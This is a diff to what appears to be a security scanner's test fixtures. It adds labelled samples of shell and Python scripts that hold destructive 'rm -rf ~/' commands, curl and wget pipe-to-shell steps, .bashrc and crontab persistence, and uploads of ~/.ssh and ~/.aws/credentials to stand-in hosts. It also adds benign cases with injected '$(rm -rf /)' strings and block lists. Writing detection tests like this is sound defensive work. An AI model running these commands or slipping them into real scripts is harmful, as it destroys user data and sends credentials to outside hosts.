@@ -322,6 +322,76 @@ PLANTED: dict[str, tuple[str, dict[str, str]]] = {
         "sec-exfiltration",
         _sh("report.sh", 'KEY=$(cat ~/.aws/credentials)\ncurl -s "https://x.example.net/c?d=$KEY"\n'),
     ),
+    # --- a command held in a variable or a list, then run (issue #27, data later executed) ----------
+    "held-eval-rm-sh": (
+        "sec-destructive-shell",
+        _sh("reset.sh", 'CLEAN_CMD="rm -rf $HOME/"\necho "resetting the workspace"\neval "$CLEAN_CMD"\n'),
+    ),
+    "held-bash-c-rm-sh": (
+        "sec-destructive-shell",
+        _sh("reset.sh", 'WIPE=\'rm -rf ~/\'\nif [ "${1:-}" != --dry-run ]; then\n  bash -c "$WIPE"\nfi\n'),
+    ),
+    "held-eval-bashrc-sh": (
+        "sec-persistence",
+        _sh(
+            "setup.sh",
+            'HOOK=\'echo "curl -s https://cdn.example.net/u.sh | sh" >> ~/.bashrc\'\neval "$HOOK"\necho ready\n',
+        ),
+    ),
+    "held-bash-c-exfil-sh": (
+        "sec-exfiltration",
+        _sh(
+            "sync.sh",
+            "SYNC='tar czf - ~/.ssh | curl -s --data-binary @- https://sync.example.net/u'\nbash -c \"$SYNC\"\n",
+        ),
+    ),
+    "held-eval-exfil-var-sh": (
+        "sec-exfiltration",
+        _sh(
+            "sync.sh",
+            'KEYS="$HOME/.aws/credentials"\nUP="curl -s -F f=@$KEYS https://sync.example.net/u"\neval "$UP"\n',
+        ),
+    ),
+    "held-download-piped-sh": (
+        "sec-remote-exec",
+        _sh("setup.sh", "FETCH='wget -qO- https://get.example.net/i.sh'\n$FETCH | sh\n"),
+    ),
+    "python-wrapper-runs-rm": (
+        "sec-destructive-shell",
+        _py(
+            "reset.py",
+            "import subprocess\n\n\ndef sh(command: str) -> None:\n    subprocess.run(command, shell=True, check=True)\n\n\n"
+            'def main() -> None:\n    sh("rm -rf ~/")\n\n\nif __name__ == "__main__":\n    main()\n',
+        ),
+    ),
+    "held-list-os-system-rm-py": (
+        "sec-destructive-shell",
+        _py(
+            "setup.py",
+            'import os\n\nSTEPS = [\n    "pip install -q pandas",\n    "rm -rf ~/",\n]\n\n\n'
+            "def main() -> None:\n    for step in STEPS:\n        os.system(step)\n\n\n"
+            'if __name__ == "__main__":\n    main()\n',
+        ),
+    ),
+    "held-list-subprocess-crontab-py": (
+        "sec-persistence",
+        _py(
+            "setup.py",
+            'import subprocess\n\nCOMMANDS = (\n    "mkdir -p ~/.cache/sync",\n'
+            "    '(crontab -l; echo \"*/5 * * * * ~/.cache/sync/run.sh\") | crontab -',\n)\n\n\n"
+            "def main() -> None:\n    for command in COMMANDS:\n        subprocess.run(command, shell=True, check=True)\n\n\n"
+            'if __name__ == "__main__":\n    main()\n',
+        ),
+    ),
+    "held-name-subprocess-exfil-py": (
+        "sec-exfiltration",
+        _py(
+            "report.py",
+            "import subprocess\n\nUPLOAD = 'tar czf - ~/.ssh | curl -s --data-binary @- https://sync.example.net/u'\n\n\n"
+            "def main() -> None:\n    subprocess.run(UPLOAD, shell=True, check=True)\n\n\n"
+            'if __name__ == "__main__":\n    main()\n',
+        ),
+    ),
 }
 
 BENIGN: dict[str, dict[str, str]] = {
@@ -434,6 +504,32 @@ BENIGN: dict[str, dict[str, str]] = {
         'CREDS=~/.config/gong/credentials.json\nBASE=$(jq -r .base_url "$CREDS")\n'
         'AUTH=$(jq -r \'"\\(.access_key):\\(.secret_key)"\' "$CREDS" | base64)\n'
         'curl -s "$BASE/v2/users" -H "Authorization: Basic $AUTH"\n',
+    ),
+    "python-test-injection-strings": {
+        "scripts/test_triage.py": _PY.format(name="test_triage.py")
+        + "import unittest\n\nimport triage\n\n\nclass TestTitles(unittest.TestCase):\n"
+        "    def test_shell_injection_in_title(self) -> None:\n"
+        '        row = triage.score(title="$(rm -rf /)")\n'
+        '        self.assertEqual(row["title"], "$(rm -rf /)")\n\n'
+        "    def test_url_injection(self) -> None:\n"
+        '        self.assertIsInstance(triage.parse_repo("https://github.com/o/r; rm -rf /"), str)\n\n\n'
+        'if __name__ == "__main__":\n    unittest.main()\n',
+        "scripts/triage.py": _PY.format(name="triage.py")
+        + 'def score(title: str) -> dict[str, str]:\n    return {"title": title}\n\n\n'
+        "def parse_repo(url: str) -> str:\n    return url.rsplit('/', 1)[-1]\n",
+    },
+    "held-detection-list-sh": _sh(
+        "guard.sh",
+        'DANGEROUS=("rm -rf /" "rm -rf ~/" "mkfs")\nfor p in "${DANGEROUS[@]}"; do\n'
+        '  if grep -qF -- "$p" "$1"; then echo "blocked: $p"; exit 1; fi\ndone\nBUILD="make -j4 all"\neval "$BUILD"\n',
+    ),
+    "held-python-block-list": _py(
+        "guard.py",
+        'import subprocess\nimport sys\n\nBLOCKED = ["rm -rf /", "rm -rf ~/", "mkfs"]\n\n\n'
+        "def main() -> int:\n    cmd = sys.argv[1]\n    if any(b in cmd for b in BLOCKED):\n        return 1\n"
+        "    for name in BLOCKED:\n        print(name)\n"
+        "    return subprocess.run(cmd, shell=True).returncode\n\n\n"
+        'if __name__ == "__main__":\n    sys.exit(main())\n',
     ),
 }
 
